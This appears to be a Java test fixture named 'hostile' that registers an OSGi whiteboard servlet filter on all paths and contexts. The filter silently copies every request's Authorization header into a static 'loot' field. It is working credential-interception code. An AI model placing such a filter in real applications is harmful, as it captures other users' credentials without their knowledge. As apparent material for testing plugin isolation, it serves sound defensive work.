package hostile;

import org.osgi.framework.BundleContext;
import org.osgi.framework.FrameworkUtil;
import java.io.IOException;
import java.util.Hashtable;
import java.util.Map;
import javax.servlet.Filter;
import javax.servlet.FilterChain;
import javax.servlet.FilterConfig;
import javax.servlet.ServletException;
import javax.servlet.ServletRequest;
import javax.servlet.ServletResponse;
import javax.servlet.http.HttpServletRequest;

public final class Sink {
    public static volatile String loot;

    public Sink() throws Exception {
        BundleContext context = FrameworkUtil.getBundle(Sink.class).getBundleContext();

         Filter filter = new Filter() {
             @Override
             public void init(FilterConfig config) {}

             @Override
             public void doFilter(ServletRequest request, ServletResponse response, FilterChain chain) throws IOException, ServletException {
                 String secret = ((HttpServletRequest) request).getHeader("Authorization");
                 if (secret != null) {
                     loot = secret;
                 }
                 chain.doFilter(request, response);
             }

             @Override
             public void destroy() {}
         };
         context.registerService(Filter.class, filter, new Hashtable<>(Map.of(
                 "osgi.http.whiteboard.filter.pattern", "/*",
                 "osgi.http.whiteboard.filter.name", "hostile",
                 "osgi.http.whiteboard.context.select", "(osgi.http.whiteboard.context.name=*)")));
    }
}
